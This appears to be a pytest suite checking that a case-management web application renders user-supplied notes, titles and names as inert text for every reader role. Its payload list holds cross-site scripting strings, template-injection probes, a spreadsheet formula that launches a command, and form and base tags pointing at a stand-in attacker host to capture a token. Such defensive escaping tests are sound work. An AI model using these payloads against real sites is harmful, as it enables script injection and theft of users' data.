"""What people wrote stays text on every page that shows it (RELIABILITY 7.8, rows 22, 36, 37)."""

import pytest

from domain.case.vocabulary import Role
from domain.party import RegisterParty
from services.catalogues import Catalogues
from tests.adapters.http.living import House
from tests.adapters.http.pages.visiting import Seen, signed_in

pytestmark = pytest.mark.anyio

NAMES = ("Null", "O'Brien", "True", "Ångström 🙂", "شريف", "undefined", "<b>Bold</b>")
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg><script>alert(1)</script></svg>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>1</script>'>",
    "<style>body{display:none}</style>",
    "<base href=//attacker.example>",
    "<form action=//attacker.example><input name=token>",
)
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1")
PIECES = ("<", ">", '"', "'", "&", "/", "`", "{{", "}}", "{%", "%}", "script", "onerror=", "style=")
MADE = tuple(f"{one}{two} {three}x" for one in PIECES for two in PIECES for three in PIECES[::5])
NAUGHTY = (*NAMES, *MARKUP, *FORMULAS, *MADE)
READERS = ("CM-1", "CL-1", "W-A", "EM-1", "SU-1", "IN-1")
AUDIENCE = ["case_manager", "clinician", "worker", "insurer_auditor"]


def _is_text(page: Seen, texts: tuple[str, ...]) -> None:
    """Each is there as it was written, and nothing came of it but text."""
    written = [part for part in page.parts if part.strip()]
    whole = "\n".join(written)
    assert [each for each in texts if each.strip() not in whole] == []
    assert not {"script", "iframe", "svg", "base", "style"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on") or name == "style"]
    links = [value or "" for name, value in page.attributes if name in ("href", "src", "action")]
    assert [each for each in links if not each.startswith(("/", "#"))] == []


def test_there_are_five_hundred_of_them() -> None:
    assert len(NAUGHTY) > 500
    assert len(set(NAUGHTY)) == len(NAUGHTY)


@pytest.mark.played(5)
async def test_notes_are_text_on_the_page_of_each_who_reads_them(house: House) -> None:
    chunks = [NAUGHTY[begin : begin + 120] for begin in range(0, len(NAUGHTY), 120)]
    for chunk in chunks:
        said = {"note": "\n".join(chunk), "audience": AUDIENCE}
        answered = await house.send("CM-1", "AddNote", said)
        assert answered.status_code == 200, answered.text
    await house.catch_up()

    for person in ("CM-1", "CL-1", "IN-1"):
        async with signed_in(house, person) as visitor:
            _is_text(await visitor.page(visitor.case), NAUGHTY)
    for person in READERS:
        async with signed_in(house, person) as visitor:
            _is_text(await visitor.page(visitor.case), ())


@pytest.mark.played(15)
async def test_what_employer_supervisor_and_worker_read_is_text(house: House) -> None:
    """Titles of accommodations, feedback and duties go to all of them."""
    titles = [each for each in (*NAMES, *MARKUP) if len(each) <= 200]
    for title in titles:
        said = {
            "kind": "equipment",
            "title": title,
            "from": "2026-01-01",
            "review_on": "2026-02-01",
        }
        answered = await house.send("EM-1", "ProposeAccommodation", said)
        assert answered.status_code == 200, answered.text
    await house.catch_up()

    for person in READERS:
        async with signed_in(house, person) as visitor:
            _is_text(await visitor.page(visitor.case), tuple(titles))


async def test_what_was_typed_is_text_in_the_form_that_comes_back(held: House) -> None:
    async with signed_in(held, "CL-1") as visitor:
        typed = "\n".join((*NAMES, *MARKUP))
        answered = await visitor.send("RequestPhaseAdvance", {"to": "", "reason": typed})
        page = Seen()
        page.feed(answered.text)
        assert answered.status_code == 422
        assert page.typed == [typed]
        _is_text(page, ())


@pytest.mark.played(3)
async def test_names_are_text_wherever_people_are_named(house: House) -> None:
    for name in NAMES:
        person = await house.register(Role.CLINICIAN)
        await _renamed(house, person, name)
        parties = [{"party_id": str(person), "role": "clinician"}]
        answered = await house.send("CM-1", "AssignParty", {"parties": parties})
        assert answered.status_code == 200, answered.text
    await house.catch_up()

    async with signed_in(house, "CM-1") as visitor:
        _is_text(await visitor.page(visitor.case), NAMES)
        _is_text(await visitor.page(visitor.form("ReleaseParty")), NAMES)
        _is_text(await visitor.page("/sign-in"), NAMES)


async def _renamed(house: House, person: object, name: str) -> None:
    party = RegisterParty.model_validate(
        {"party_id": str(person), "name": name, "roles": [Role.CLINICIAN]}
    )
    catalogues = Catalogues(house.product.ledger, house.product.commands)
    await catalogues.register(house.tenant, party, house.product.clock.now())
